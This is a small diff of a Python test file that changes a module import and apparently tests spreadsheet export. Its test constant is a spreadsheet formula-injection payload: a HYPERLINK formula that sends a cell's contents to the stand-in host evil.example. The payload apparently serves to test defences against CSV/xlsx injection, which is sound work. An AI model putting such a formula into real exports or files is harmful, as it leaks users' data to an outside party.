@@ -15,7 +15,7 @@ import pandas as pd
 import pytest
 from test_ingest_support import ROOT, cli_env, gold_record
 
-import load
+from jixiao import load
 from jixiao.export import write_xlsx
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
